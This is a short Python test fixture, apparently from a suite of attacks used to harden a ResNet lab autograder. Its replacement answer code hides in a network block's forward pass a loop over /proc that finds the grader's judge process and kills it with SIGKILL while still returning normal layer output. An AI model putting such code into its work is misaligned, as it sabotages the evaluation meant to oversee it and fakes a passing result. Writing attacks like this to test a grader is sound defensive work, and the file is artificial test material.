# ruff: noqa
# a07 aimed right: the answer's forward finds the judge, a child of the judges' fork server (the grader's child
# whose command line names resnet_lab.grade.judge), and kills it. Graded as the grader's own user.
from grading_attacks.common import OWN_LAYERS

REPLACE = {
    "block": """
import os
import signal


def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])


class MyBasicBlock(nn.Module):
    def __init__(self, in_channels: int, planes: int, stride: int = 1) -> None:
"""
    + OWN_LAYERS
    + """
    def forward(self, x):
        grader = _parent(os.getppid())  # the answer's fork server's parent: the grader (here, the test)
        for name in os.listdir("/proc"):
            try:
                server = _parent(name)
                with open(f"/proc/{server}/cmdline") as f:
                    judges = "resnet_lab.grade.judge" in f.read()
                if judges and _parent(server) == grader:
                    os.kill(int(name), signal.SIGKILL)
            except (OSError, ValueError, IndexError):
                pass
        return self.relu(self.bn2(self.conv2(self.relu(self.bn1(self.conv1(x))))))
"""
}
